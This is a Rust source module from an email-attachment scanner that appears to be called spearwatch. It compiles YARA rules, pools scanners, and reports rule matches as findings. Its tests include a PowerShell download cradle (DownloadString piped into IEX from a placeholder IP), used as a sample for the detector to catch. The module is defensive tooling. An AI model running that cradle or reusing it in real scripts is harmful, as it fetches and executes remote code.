//! YARA over every extracted object, with yara-x (behind the `yara` cargo feature).
//!
//! The project's own rule pack (`rules/*.yar`, compiled in) describes the structures of weaponised
//! attachments; users add theirs (`--rules DIR`). A match is the finding `yara.<rule>`, titled by the
//! rule's `description` meta, with its `severity` and `technique` metas (see `rules/spearwatch.yar`).

use crate::Node;
use spearwatch_core::Severity;
use std::cell::RefCell;
use std::path::Path;
use std::time::Duration;

/// The rule pack shipped with spearwatch.
const BUNDLED: &[(&str, &str)] = &[("spearwatch", include_str!("../rules/spearwatch.yar"))];

/// Compiled rules, shared by every scan (yara-x rules are immutable and `Sync`).
pub struct YaraRules {
    rules: yara_x::Rules,
    count: usize,
}

impl std::fmt::Debug for YaraRules {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "YaraRules({} rules)", self.count)
    }
}

impl YaraRules {
    /// The bundled rule pack only.
    pub fn bundled() -> Result<Self, String> {
        Self::with_sources(&[])
    }

    /// The bundled pack plus every `.yar`/`.yara` file under `dirs` (recursively), each file in its own
    /// namespace so rule names may repeat across files. Errors name the file and the rule compiler's
    /// message (with line and column).
    pub fn load(dirs: &[&Path]) -> Result<Self, String> {
        let mut files = Vec::new();
        for d in dirs {
            collect(d, &mut files).map_err(|e| format!("{}: {e}", d.display()))?;
        }
        if files.is_empty() && !dirs.is_empty() {
            return Err(format!(
                "no .yar or .yara files under {}",
                dirs.iter()
                    .map(|d| d.display().to_string())
                    .collect::<Vec<_>>()
                    .join(", ")
            ));
        }
        let mut sources = Vec::new();
        for f in &files {
            let text = std::fs::read_to_string(f).map_err(|e| format!("{}: {e}", f.display()))?;
            sources.push((f.display().to_string(), text));
        }
        Self::with_sources(&sources)
    }

    fn with_sources(extra: &[(String, String)]) -> Result<Self, String> {
        let mut c = yara_x::Compiler::new();
        let mut count = 0;
        let all = BUNDLED
            .iter()
            .map(|(n, s)| (n.to_string(), s.to_string()))
            .chain(extra.iter().cloned());
        for (name, src) in all {
            c.new_namespace(&namespace(&name));
            c.add_source(yara_x::SourceCode::from(src.as_str()).with_origin(&name))
                .map_err(|e| e.to_string())?;
            count += src.matches("rule ").count();
        }
        Ok(YaraRules {
            rules: c.build(),
            count,
        })
    }

    /// Rules compiled (approximate for user files: counts `rule ` keywords).
    pub fn len(&self) -> usize {
        self.count
    }

    pub fn is_empty(&self) -> bool {
        self.count == 0
    }

    /// Keeps the rules for the rest of the process. Rules are loaded once per run (or per reload of a
    /// service), so the leak is bounded; in exchange scanners can be pooled per thread.
    pub fn leak(self) -> &'static YaraRules {
        Box::leak(Box::new(self))
    }
}

thread_local! {
    /// Scanners kept between attachments, by the address of the rules they run.
    static POOL: RefCell<Vec<(usize, yara_x::Scanner<'static>)>> = const { RefCell::new(Vec::new()) };
}

/// Scanners pooled per thread at most (one per rule set in use).
const POOL_MAX: usize = 4;

/// A scanner for `rules`: this thread's pooled one, else a new one.
pub(crate) fn take_scanner(rules: &'static YaraRules) -> yara_x::Scanner<'static> {
    let key = std::ptr::from_ref(rules).addr();
    POOL.with(|p| {
        let mut p = p.borrow_mut();
        p.iter()
            .position(|(k, _)| *k == key)
            .map(|i| p.swap_remove(i).1)
    })
    .unwrap_or_else(|| yara_x::Scanner::new(&rules.rules))
}

/// Returns a scanner to this thread's pool.
pub(crate) fn give_back(rules: &'static YaraRules, scanner: yara_x::Scanner<'static>) {
    let key = std::ptr::from_ref(rules).addr();
    POOL.with(|p| {
        let mut p = p.borrow_mut();
        if p.len() < POOL_MAX {
            p.push((key, scanner));
        }
    });
}

fn namespace(origin: &str) -> String {
    let stem = Path::new(origin)
        .file_stem()
        .map(|s| s.to_string_lossy().into_owned())
        .unwrap_or_else(|| origin.to_string());
    stem.chars()
        .map(|c| if c.is_ascii_alphanumeric() { c } else { '_' })
        .collect()
}

fn collect(p: &Path, out: &mut Vec<std::path::PathBuf>) -> std::io::Result<()> {
    if p.is_dir() {
        let mut entries: Vec<_> = std::fs::read_dir(p)?
            .filter_map(|e| e.ok().map(|e| e.path()))
            .collect();
        entries.sort();
        for e in entries {
            collect(&e, out)?;
        }
    } else if p
        .extension()
        .is_some_and(|e| e.eq_ignore_ascii_case("yar") || e.eq_ignore_ascii_case("yara"))
    {
        out.push(p.to_path_buf());
    } else if !p.exists() {
        return Err(std::io::Error::new(
            std::io::ErrorKind::NotFound,
            "not found",
        ));
    }
    Ok(())
}

/// Runs the rules over bytes that are not an attachment (a whole stored message, a decoded body, for
/// a retro-hunt): (rule identifier, what matched where) per matching rule.
pub fn scan_bytes(
    rules: &'static YaraRules,
    data: &[u8],
    timeout: Duration,
) -> Vec<(String, String)> {
    let mut node = Node::new(
        "message",
        "message".into(),
        crate::Kind::Email,
        data.len() as u64,
        0,
        0,
    );
    let mut scanner = take_scanner(rules);
    scan(&mut scanner, &mut node, data, timeout);
    give_back(rules, scanner);
    node.findings
        .iter()
        .filter_map(|f| {
            let ident = f.id.strip_prefix("yara.")?;
            let detail = f
                .evidence
                .first()
                .map(|e| e.value.clone())
                .unwrap_or_default();
            Some((ident.to_string(), detail))
        })
        .collect()
}

/// Scans `data` within `timeout` (what is left of the walk's time budget) and adds one finding per
/// matching rule to `node`.
pub(crate) fn scan(
    scanner: &mut yara_x::Scanner<'_>,
    node: &mut Node,
    data: &[u8],
    timeout: Duration,
) {
    scanner.set_timeout(timeout);
    let results = match scanner.scan(data) {
        Ok(r) => r,
        Err(e) => {
            node.flag(
                "content.limit",
                Severity::Medium,
                "YARA scan of this object did not finish",
                &[],
                "yara",
                e.to_string(),
            );
            return;
        }
    };
    let mut found = Vec::new();
    for rule in results.matching_rules() {
        let mut description = None;
        let mut severity = Severity::High;
        let mut techniques = Vec::new();
        for (key, value) in rule.metadata() {
            let yara_x::MetaValue::String(v) = value else {
                continue;
            };
            match key {
                "description" => description = Some(v.to_string()),
                "severity" => severity = parse_severity(v).unwrap_or(Severity::High),
                "technique" | "mitre_attack" | "attack" => techniques.extend(
                    v.split([',', ' '])
                        .map(str::trim)
                        .filter(|t| t.starts_with('T') && t.len() <= 9)
                        .map(str::to_string),
                ),
                _ => {}
            }
        }
        let patterns: Vec<String> = rule
            .patterns()
            .filter_map(|p| {
                p.matches()
                    .next()
                    .map(|m| format!("{} at {}", p.identifier(), m.range().start))
            })
            .take(5)
            .collect();
        found.push((
            rule.identifier().to_string(),
            rule.namespace().to_string(),
            description,
            severity,
            techniques,
            patterns,
        ));
    }
    for (ident, ns, description, severity, techniques, patterns) in found {
        let t: Vec<&str> = techniques.iter().map(String::as_str).collect();
        node.flag(
            &format!("yara.{ident}"),
            severity,
            description.unwrap_or_else(|| format!("YARA rule {ident} matched")),
            &t,
            &ident,
            format!("rule {ns}:{ident}; {}", patterns.join(", ")),
        );
    }
}

fn parse_severity(s: &str) -> Option<Severity> {
    Some(match s.to_ascii_lowercase().as_str() {
        "info" => Severity::Info,
        "low" => Severity::Low,
        "medium" => Severity::Medium,
        "high" => Severity::High,
        "critical" => Severity::Critical,
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{analyse, Options};

    fn opts() -> Options {
        Options {
            yara: Some(YaraRules::bundled().expect("bundled rules compile").leak()),
            ..Options::default()
        }
    }

    #[test]
    fn bundled_pack_compiles_and_matches_structures() {
        let o = opts();
        let ps = b"$c = New-Object Net.WebClient; IEX $c.DownloadString('http://198.51.100.7/a')";
        let n = analyse(ps, "update.ps1", None, &o);
        assert!(
            n.has("yara.SW_PowerShell_Download_Cradle"),
            "{:?}",
            n.findings
        );
        let f = n
            .findings
            .iter()
            .find(|f| f.id == "yara.SW_PowerShell_Download_Cradle")
            .unwrap();
        assert_eq!(f.severity, Severity::Critical);
        assert!(f.techniques.iter().any(|t| t == "T1059.001"));
        let hta =
            b"<html><head><HTA:APPLICATION id=x></head><script language=vbscript>x</script></html>";
        assert!(analyse(hta, "a.hta", None, &o).has("yara.SW_HTA_Application"));
        let plain = b"Quarterly figures attached. Regards, Kim";
        assert!(analyse(plain, "notes.txt", None, &o).findings.is_empty());
    }

    #[test]
    fn user_rules_from_a_directory_with_clear_errors() {
        let dir = std::env::temp_dir().join(format!("sw-yara-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(
            dir.join("mine.yar"),
            "rule Team_Marker { meta: description = \"our marker\" severity = \"medium\" strings: $a = \"ZXCV-42\" condition: $a }",
        )
        .unwrap();
        let rules = YaraRules::load(&[&dir]).unwrap();
        let o = Options {
            yara: Some(rules.leak()),
            ..Options::default()
        };
        let n = analyse(b"hello ZXCV-42", "a.txt", None, &o);
        let f = n
            .findings
            .iter()
            .find(|f| f.id == "yara.Team_Marker")
            .expect("user rule");
        assert_eq!(f.severity, Severity::Medium);
        assert_eq!(f.title, "our marker");

        std::fs::write(dir.join("broken.yar"), "rule Broken { condition: $nope }").unwrap();
        let err = YaraRules::load(&[&dir]).unwrap_err();
        assert!(err.contains("broken.yar"), "{err}");
        std::fs::remove_dir_all(&dir).ok();
        assert!(YaraRules::load(&[Path::new("/nonexistent/rules")]).is_err());
    }

    #[test]
    fn no_scan_once_the_time_budget_is_spent() {
        // With no time left the object is reported as a time limit and YARA does not run at all
        // (it used to run first, with the whole budget as its own timeout).
        let mut o = opts();
        o.limits.max_time = std::time::Duration::ZERO;
        let ps = b"$c = New-Object Net.WebClient; IEX $c.DownloadString('http://198.51.100.7/a')";
        let n = analyse(ps, "update.ps1", None, &o);
        assert!(n.has("content.limit"), "{:?}", n.findings);
        assert!(
            !n.findings.iter().any(|f| f.id.starts_with("yara.")),
            "{:?}",
            n.findings
        );
        // With time left the same object matches.
        let n = analyse(ps, "update.ps1", None, &opts());
        assert!(n.has("yara.SW_PowerShell_Download_Cradle"));
    }
}
